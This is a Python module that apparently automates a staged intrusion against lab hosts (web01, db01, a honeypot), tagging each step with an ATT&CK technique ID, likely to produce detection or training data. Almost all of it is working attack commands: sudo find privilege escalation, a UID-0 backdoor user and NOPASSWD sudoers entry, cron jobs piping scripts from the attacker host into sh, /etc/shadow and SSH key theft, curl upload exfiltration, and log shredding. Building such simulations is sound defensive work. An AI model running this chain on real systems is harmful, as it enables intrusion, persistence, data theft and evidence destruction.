"""The attack from inside: discovery, root, persistence, the way to db01 and trap01, the theft, wiping traces."""

from __future__ import annotations

import contextlib
import random
import time

from .company import ATTACKER, MARTA, NAS_PASSWORD, PLACES
from .host import Host
from .story import Story, Where
from .terminal import PROMPT, NoPromptError, Terminal

WEB, TRAP, DB = (PLACES[name].address for name in ("web01", "trap01", "db01"))
BACKDOOR = "sysupd"


class Intruder:
    """An interactive terminal of the attacker, which knows on which host and as whom its next line runs."""

    def __init__(self, terminal: Terminal, story: Story) -> None:
        self._terminal, self._story = terminal, story
        self._chance = random.Random(66)
        self._place = Where(ATTACKER, "web01", MARTA.login)

    def do(self, step: str, technique: str, line: str, *, until: str = PROMPT, timeout: float = 60) -> str:
        time.sleep(self._chance.uniform(0.7, 2.2))
        with self._story.act("attack", step, self._place, line, technique):
            self._terminal.type(line)
            return self._terminal.expect(until, timeout=timeout)

    def answer(self, text: str, *, until: str = PROMPT) -> str:
        time.sleep(0.8)
        self._terminal.type(text)
        return self._terminal.expect(until, timeout=40)

    def now_at(self, source: str, host: str, user: str) -> None:
        self._place = Where(source, host, user)


def break_in(kali: Host, story: Story) -> None:
    """Logs in with the guessed password and goes all the way."""
    public_key = kali.run(["cat", "/root/.ssh/id_ed25519.pub"]).strip()
    with Terminal(kali.argv(["ssh", f"{MARTA.login}@{WEB}"])) as terminal:
        intruder = Intruder(terminal, story)
        with story.act(
            "attack",
            "login with the guessed password",
            Where(ATTACKER, "web01", MARTA.login),
            f"ssh {MARTA.login}@{WEB}",
            "T1078",
        ):
            terminal.expect(r"password: $")
            terminal.type(MARTA.password)
            terminal.expect(PROMPT)
        _look_around(intruder)
        _become_root(intruder)
        _stay(intruder, public_key)
        _search_credentials(intruder)
        _look_for_neighbours(intruder)
        _go_to_db01(intruder)
        _go_to_trap01(intruder)
        _steal(intruder, kali, story)
        _wipe(intruder)


def come_back(kali: Host, story: Story) -> None:
    """Uses the backdoor account once, by key."""
    with Terminal(kali.argv(["ssh", f"{BACKDOOR}@{WEB}"])) as terminal:
        intruder = Intruder(terminal, story)
        intruder.now_at(ATTACKER, "web01", BACKDOOR)
        with story.act(
            "attack",
            "login to the backdoor account",
            Where(ATTACKER, "web01", BACKDOOR),
            f"ssh {BACKDOOR}@{WEB}",
            "T1078.003",
        ):
            terminal.expect(PROMPT)
        intruder.do("backdoor check", "T1033", "id")
        intruder.do("backdoor check", "T1053.003", "cat /var/tmp/.u.log")
        terminal.type("exit")
        time.sleep(1)


def _look_around(intruder: Intruder) -> None:
    for technique, line in (
        ("T1033", "id; whoami"),
        ("T1082", "uname -a; cat /etc/os-release | head -2"),
        ("T1033", "w"),
        ("T1087.001", "cat /etc/passwd | grep -v nologin"),
        ("T1057", "ps aux | grep -v '\\[' | tail -20"),
        ("T1049", "ss -tlnp"),
        ("T1016", "ip addr; ip route"),
        ("T1069.001", "sudo -n -l"),
        ("T1083", "find / -perm -4000 -type f 2>/dev/null"),
        ("T1053.003", "cat /etc/crontab /etc/cron.d/*"),
    ):
        intruder.do("discovery", technique, line)


def _become_root(intruder: Intruder) -> None:
    intruder.do("privilege escalation", "T1548.003", "sudo find /etc/hostname -exec /bin/bash -p \\;", until=r"# $")
    intruder.now_at(ATTACKER, "web01", "root")
    intruder.do("privilege escalation", "T1033", "id")
    intruder.do("defence evasion", "T1070.003", "unset HISTFILE; export HISTSIZE=0")


def _stay(intruder: Intruder, public_key: str) -> None:
    for technique, line in (
        ("T1136.001", f"useradd -m -o -u 0 -g 0 -d /home/{BACKDOOR} -s /bin/bash {BACKDOOR}"),
        ("T1098", f"echo '{BACKDOOR}:Upd-77-late' | chpasswd"),
        ("T1098", f"usermod -aG sudo {MARTA.login}"),
        ("T1098.004", f"mkdir -p /home/{BACKDOOR}/.ssh; echo '{public_key}' >> /home/{BACKDOOR}/.ssh/authorized_keys"),
        (
            "T1098.004",
            f"mkdir -p /root/.ssh; echo '{public_key}' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys",
        ),
        ("T1053.003", f"echo '* * * * * root curl -fsS http://{ATTACKER}/u.sh | sh' > /etc/cron.d/{BACKDOOR}"),
        (
            "T1053.003",
            f"(crontab -l 2>/dev/null; echo '*/2 * * * * curl -fsS http://{ATTACKER}/m.sh | sh >/dev/null') | crontab -",
        ),
        (
            "T1548.003",
            f"echo '{BACKDOOR} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{BACKDOOR}; chmod 440 /etc/sudoers.d/{BACKDOOR}",
        ),
        ("T1105", f"wget -q -O /dev/shm/.m http://{ATTACKER}/m.sh; chmod +x /dev/shm/.m; /dev/shm/.m"),
    ):
        intruder.do("persistence", technique, line)


def _search_credentials(intruder: Intruder) -> None:
    for technique, line in (
        ("T1003.008", "cat /etc/shadow"),
        ("T1552.001", "grep -rniE 'passw(or)?d' /srv/www /usr/local/etc /etc/*.conf 2>/dev/null | head"),
        ("T1552.004", "find /home /root -name 'id_*'"),
        ("T1552.004", "cp /home/carol/.ssh/id_ed25519 /dev/shm/.k; chmod 600 /dev/shm/.k"),
        ("T1552.003", "cat /home/*/.bash_history 2>/dev/null | tail -20"),
    ):
        intruder.do("credential access", technique, line)


def _look_for_neighbours(intruder: Intruder) -> None:
    intruder.do("network discovery", "T1018", "cat /etc/hosts")
    intruder.do(
        "network discovery",
        "T1046",
        f"for h in {DB} {TRAP}; do for p in 21 22 80 3306 5432 6379; do "
        'timeout 1 bash -c "echo > /dev/tcp/$h/$p" 2>/dev/null && echo $h $p open; done; done',
    )


def _go_to_db01(intruder: Intruder) -> None:
    intruder.do(
        "lateral movement to db01",
        "T1021.004",
        f"ssh -i /dev/shm/.k -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR carol@{DB}",
    )
    intruder.now_at(WEB, "db01", "carol")
    for technique, line in (
        ("T1033", "id; hostname"),
        ("T1069.001", "sudo -n -l"),
        ("T1083", "ls -la /srv /srv/data 2>&1"),
    ):
        intruder.do("discovery on db01", technique, line)
    intruder.do("collection", "T1560.001", "sudo tar czf /tmp/.c.tgz /srv/data", timeout=120)
    intruder.do("collection", "T1074.001", "ls -l /tmp/.c.tgz")
    intruder.do("lateral movement to db01", "", "exit")
    intruder.now_at(ATTACKER, "web01", "root")
    intruder.do(
        "collection",
        "T1570",
        f"scp -q -i /dev/shm/.k -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR carol@{DB}:/tmp/.c.tgz /srv/www/shop/c.tgz",
        timeout=120,
    )
    intruder.do("collection", "T1074.001", "chmod 644 /srv/www/shop/c.tgz; ls -l /srv/www/shop/c.tgz")


def _go_to_trap01(intruder: Intruder) -> None:
    intruder.do(
        "lateral movement to trap01",
        "T1021.004",
        f"ssh -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@{TRAP}",
        until=r"password: $",
    )
    intruder.answer("root", until=r"password: $")
    intruder.answer("backup", until=r"password: $")
    try:
        intruder.answer(NAS_PASSWORD)
    finally:
        intruder.now_at(WEB, "trap01", "root")
    for technique, line in (
        ("T1082", "uname -a"),
        ("T1033", "id"),
        ("T1082", "cat /proc/cpuinfo | grep name"),
        ("T1083", "ls -la /root /home"),
        ("T1087.001", "cat /etc/passwd"),
        ("T1105", f"cd /tmp; wget http://{ATTACKER}/m.sh"),
        ("T1105", f"curl -O http://{ATTACKER}/u.sh"),
        ("T1059.004", "echo 'echo nothing to see here' > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh"),
        ("T1053.003", f"echo '* * * * * curl -s http://{ATTACKER}/u.sh | sh' | crontab -"),
        ("T1070.003", "history -c"),
    ):
        with contextlib.suppress(NoPromptError):  # the honeypot answers some commands late or not at all
            intruder.do("on the honeypot", technique, line, timeout=20)
    intruder.do("on the honeypot", "", "exit", until=r"# $")
    intruder.now_at(ATTACKER, "web01", "root")
    intruder.do(
        "lateral movement to trap01",
        "T1570",
        f"scp -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR /dev/shm/.m root@{TRAP}:/tmp/.m",
        until=r"password: $",
    )
    intruder.answer(NAS_PASSWORD)


def _steal(intruder: Intruder, kali: Host, story: Story) -> None:
    address = f"http://{WEB}/c.tgz"
    with story.act(
        "attack",
        "exfiltration over the shop's web server",
        Where(ATTACKER, "web01"),
        f"wget -q -O /dev/null {address}",
        "T1048.003",
    ):
        kali.run(["wget", "-q", "-O", "/dev/null", address], check=False)
    intruder.do(
        "exfiltration by upload",
        "T1048.003",
        f"curl -fsS -T /srv/www/shop/c.tgz http://{ATTACKER}/in/c.tgz",
        timeout=120,
    )


def _wipe(intruder: Intruder) -> None:
    for technique, line in (
        ("T1070.004", "rm -f /srv/www/shop/c.tgz /dev/shm/.k /dev/shm/.m"),
        ("T1070.002", "cp /var/log/auth.log /var/log/auth.log.1; shred -u /var/log/auth.log.1"),
        ("T1070.002", "truncate -s 0 /var/log/wtmp /var/log/btmp /var/log/lastlog"),
        ("T1070.003", f"rm -f /home/{MARTA.login}/.bash_history; history -c"),
    ):
        intruder.do("wiping traces", technique, line)
    intruder.do("wiping traces", "", "exit")
